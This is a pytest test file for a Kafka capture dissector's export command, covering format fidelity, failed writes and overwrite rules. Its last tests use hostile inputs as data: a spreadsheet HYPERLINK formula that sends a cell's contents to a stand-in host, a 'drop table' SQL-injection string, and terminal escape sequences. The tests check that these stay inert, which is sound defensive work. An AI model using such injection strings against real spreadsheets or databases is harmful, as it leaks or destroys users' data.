"""`kafka-dissect export`: whole files or none, the same values in every format."""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from support.frames import make_request
from support.packets import Wire

import dissector
from dissector import cli
from dissector.sinks.pcapng import PcapngWriter
from dissector.tables import TABLES, Kind, to_csv

if TYPE_CHECKING:
    from pathlib import Path

    from click.testing import Result

FORMATS = ("parquet", "csv", "sqlite", "duckdb")


def export(*arguments: object) -> Result:
    return CliRunner().invoke(cli.main, ["export", *map(str, arguments)])


def output(folder: Path, form: str) -> Path:
    return folder / f"capture.{form}" if form in ("sqlite", "duckdb") else folder / form


@pytest.fixture(scope="module")
def transactions(captures: Path) -> Path:
    return captures / "transactions.pcap"


@pytest.fixture(scope="module")
def expected(transactions: Path) -> dict[str, pa.Table]:
    """Give the tables of a capture as Arrow has them."""
    with dissector.load(transactions) as loaded:
        parts = {
            "exchanges": loaded.exchanges(),
            **{name: getattr(loaded, name) for name in TABLES if name != "exchanges"},
        }
        return {name: part.to_arrow() for name, part in parts.items()}


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_has_every_value(
    form: str, transactions: Path, expected: dict[str, pa.Table], tmp_path: Path
) -> None:
    to = output(tmp_path, form)
    result = export(transactions, "--to", form, "-o", to)
    assert result.exit_code == 0, result.output
    for name, table in expected.items():
        found = READERS[form](to, name)
        assert found.column_names == table.column_names
        assert found.num_rows == table.num_rows
        for column in TABLES[name].columns:
            values = table[column.name].to_pylist()
            assert found[column.name].to_pylist() == [READ[form](column.kind, value) for value in values], column.name
    assert [path for path in tmp_path.rglob("*") if "partial" in path.name] == []


def _parquet(to: Path, name: str) -> pa.Table:
    return pq.read_table(to / f"{name}.parquet")


def _csv(to: Path, name: str) -> pa.Table:
    path = str(to / f"{name}.csv")
    return duckdb.sql(f"from read_csv('{path}', all_varchar=true)").to_arrow_table()


def _sqlite(to: Path, name: str) -> pa.Table:
    database = sqlite3.connect(to)
    cursor = database.execute(f'select * from "{name}"')  # noqa: S608
    rows = cursor.fetchall()
    columns = [description[0] for description in cursor.description]
    database.close()
    return pa.table({column: [row[place] for row in rows] for place, column in enumerate(columns)})


def _duckdb(to: Path, name: str) -> pa.Table:
    with duckdb.connect(str(to), read_only=True) as database:
        return database.sql(f'from "{name}"').to_arrow_table()


READERS = {"parquet": _parquet, "csv": _csv, "sqlite": _sqlite, "duckdb": _duckdb}


def _same(kind: Kind, value: Any) -> Any:
    return value


def _in_sqlite(kind: Kind, value: Any) -> Any:
    if value is None:
        return None
    if kind in (Kind.TIME, Kind.MILLISECONDS):
        digits = 3 if kind is Kind.MILLISECONDS else 6
        return f"{value:%Y-%m-%dT%H:%M:%S}.{f'{value.microsecond:06d}'[:digits]}Z"
    if kind is Kind.DURATION:
        return value.value
    if kind is Kind.NAMES:
        return json.dumps(value, separators=(",", ":"), ensure_ascii=False)
    if kind is Kind.HEADERS:
        shown = [{"key": header["key"], "value": header["value"] and header["value"].decode()} for header in value]
        return json.dumps(shown, separators=(",", ":"), ensure_ascii=False)
    return int(value) if kind is Kind.FLAG else value


def _in_csv(kind: Kind, value: Any) -> Any:
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, bytes):
        return value.hex()
    value = _in_sqlite(kind, value)
    return None if value is None else str(value)


def _in_duckdb(kind: Kind, value: Any) -> Any:
    if kind is Kind.DURATION and value is not None:
        return pa.MonthDayNano([0, 0, value.value])
    return value


READ = {"parquet": _same, "csv": _in_csv, "sqlite": _in_sqlite, "duckdb": _in_duckdb}


def test_a_filter_picks_and_numbers_stay(captures: Path, tmp_path: Path) -> None:
    result = export(captures / "orders.pcapng", "--to", "csv", "-o", tmp_path, "--filter", "api == CreateTopics", "-q")
    assert result.output.splitlines()[1] == f"{tmp_path / 'exchanges.csv'}: 2 rows"
    number = int((tmp_path / "exchanges.csv").read_text().splitlines()[1].split(",")[0])
    with dissector.load(captures / "orders.pcapng") as loaded:
        assert loaded[number].api_name == "CreateTopics"


def test_only_the_tables_that_are_asked_for(captures: Path, tmp_path: Path) -> None:
    arguments = ("--table", "records,exchanges", "--table", "records", "-q")
    result = export(captures / "orders.pcapng", "--to", "sqlite", "-o", tmp_path / "orders.db", *arguments)
    assert result.output == f"{tmp_path / 'orders.db'}: 85 records, 220 exchanges\n"
    result = export(captures / "orders.pcapng", "--to", "csv", "-o", tmp_path, "--table", "topics")
    assert result.exit_code == cli.USAGE
    assert "there is no table 'topics', only connections, exchanges, messages, records" in result.output


@pytest.mark.parametrize("form", FORMATS)
def test_a_capture_that_breaks_off_gives_what_came_before(form: str, captures: Path, tmp_path: Path) -> None:
    broken = tmp_path / "broken.pcap"
    broken.write_bytes((captures / "admin.pcap").read_bytes()[:50_000])
    result = export(broken, "--to", form, "-o", output(tmp_path, form))
    assert result.exit_code == cli.BROKEN
    assert "broken.pcap: cut short" in result.output
    assert output(tmp_path, form).exists()


@pytest.mark.parametrize("form", FORMATS)
def test_where_no_kafka_is_nothing_is_written(form: str, tmp_path: Path) -> None:
    empty = tmp_path / "empty.pcap"
    empty.write_bytes(bytes.fromhex("d4c3b2a1020004000000000000000000ffff000001000000"))
    result = export(empty, "--to", form, "-o", output(tmp_path / "to", form))
    assert result.exit_code == cli.NO_KAFKA
    assert [path for path in (tmp_path / "to").rglob("*") if path.is_file()] == []


@pytest.mark.parametrize("form", FORMATS)
def test_what_is_there_stays_unless_it_is_to_be_replaced(form: str, captures: Path, tmp_path: Path) -> None:
    arguments = (captures / "mock.pcap", "--to", form, "-o", output(tmp_path, form), "-q")
    assert export(*arguments).exit_code == 0
    again = export(*arguments)
    assert again.exit_code == cli.USAGE
    assert "is there already: give --overwrite to replace it" in again.output
    assert export(*arguments, "--overwrite").exit_code == 0


def test_a_capture_is_not_written_over(captures: Path, tmp_path: Path) -> None:
    capture = tmp_path / "exchanges.csv"
    capture.write_bytes((captures / "mock.pcap").read_bytes())
    result = export(capture, "--to", "csv", "-o", tmp_path, "--overwrite")
    assert result.exit_code == cli.USAGE
    assert "is a capture to read" in result.output
    assert export(captures / "mock.pcap", "--to", "sqlite", "-o", tmp_path).exit_code == cli.USAGE
    assert export(captures / "mock.pcap", "--to", "csv", "-o", capture).exit_code == cli.USAGE


def test_what_was_written_is_said_without_doing_anything_to_a_terminal(captures: Path, tmp_path: Path) -> None:
    result = export(captures / "mock.pcap", "--to", "sqlite", "-o", tmp_path / "\x1b[2J.sqlite")
    assert result.stdout == f"{tmp_path}/\\x1b[2J.sqlite: 34 connections, 178 exchanges, 348 messages, 59 records\n"


def test_a_write_that_fails_leaves_nothing(captures: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(to_csv.CsvSink, "write", full)
    ledger = tmp_path / "ledger.json"
    result = export(captures / "mock.pcap", "--to", "csv", "-o", tmp_path / "to", "--ledger", ledger)
    assert result.exit_code == cli.BROKEN
    error = f"{tmp_path / 'to'}: No space left on device"
    assert result.output.startswith(f"kafka-dissect: error: {error}\nledger\n")
    assert json.loads(ledger.read_text())["error"] == error
    assert list((tmp_path / "to").iterdir()) == []


@pytest.mark.parametrize("size", [0, 2000, 60_000])
@pytest.mark.parametrize("form", FORMATS)
def test_where_files_cannot_grow_it_says_so_and_leaves_nothing(
    form: str, size: int, captures: Path, tmp_path: Path
) -> None:
    """Whatever is written when there is no more room: the first bytes, rows, or what is flushed when files close."""
    form_of_limit = f"import resource; resource.setrlimit(resource.RLIMIT_FSIZE, ({size}, {size}))"
    to = tmp_path / "to" / "capture"
    arguments = ["export", str(captures / "orders.pcapng"), "--to", form, "-o", str(to), "-q"]
    program = f"from dissector import cli; {form_of_limit}; cli.main({arguments!r})"
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    if result.returncode == 0 and form == "parquet":
        assert size == 60_000
        return
    assert result.returncode == cli.BROKEN, result.stderr
    assert result.stderr.startswith("kafka-dissect: error: ")
    assert result.stderr.count("\n") == 1
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_where_nothing_can_be_written_it_says_so(captures: Path, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    for form in ("sqlite", "duckdb"):
        result = export(captures / "mock.pcap", "--to", form, "-o", tmp_path / "file" / "x")
        assert result.exit_code == cli.BROKEN
        assert f"error: {tmp_path / 'file'}: File exists" in result.output


@pytest.mark.parametrize(
    ("form", "package", "extra"), [("parquet", "pyarrow", "arrow"), ("duckdb", "duckdb", "duckdb")]
)
def test_what_is_not_installed_is_named(
    form: str, package: str, extra: str, captures: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, package, None)
    result = export(captures / "mock.pcap", "--to", form, "-o", output(tmp_path, form))
    assert result.exit_code == cli.USAGE
    assert f"{package} is not installed: pip install 'kafka-dissector[{extra}]'" in result.output


def test_it_says_what_is_in_the_tables() -> None:
    said = export("--columns").output
    for table in TABLES.values():
        assert table.describe() in said


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_text_is_no_formula_where_spreadsheets_are_to_read_it(name: str, tmp_path: Path) -> None:
    """By default values stay what they are, for programs that read them; numbers do in any case."""
    capture = tmp_path / "hostile.pcapng"
    with capture.open("wb") as file:
        writer = PcapngWriter(file)
        for packet in Wire().open().say("client", make_request(3, 9, {"topics": []}, client_id=name)).close().packets:
            writer.write(packet)
        writer.flush()
    for options, expected in (((), name), (("--for-spreadsheets",), f"'{name}")):
        to = tmp_path / f"csv{len(options)}"
        assert export(capture, "--to", "csv", "-o", to, "-q", *options).exit_code == 0
        with (to / "exchanges.csv").open(newline="", encoding="utf-8") as file:
            (row,) = csv.DictReader(file)
        assert row["client_id"] == expected
        assert row["client_host"][0].isdigit()
    assert export(capture, "--to", "sqlite", "-o", tmp_path / "x", "--for-spreadsheets").exit_code == cli.USAGE


def test_hostile_text_stays_a_value(tmp_path: Path) -> None:
    """Quotes, commas, line ends and NUL in names neither end a field nor a row, and run nothing."""
    name = 'a","b\r\n;--\x1b[2J\x00\'); drop table exchanges; --'
    request = make_request(3, 9, {"topics": [{"name": name}]}, client_id=name)
    capture = tmp_path / "hostile.pcapng"
    with capture.open("wb") as file:
        writer = PcapngWriter(file)
        for packet in Wire().open().say("client", request).close().packets:
            writer.write(packet)
        writer.flush()
    for form in FORMATS:
        to = output(tmp_path, form)
        assert export(capture, "--to", form, "-o", to, "-q").exit_code == 0
        table = READERS[form](to, "exchanges")
        assert table["client_id"].to_pylist() == [name]
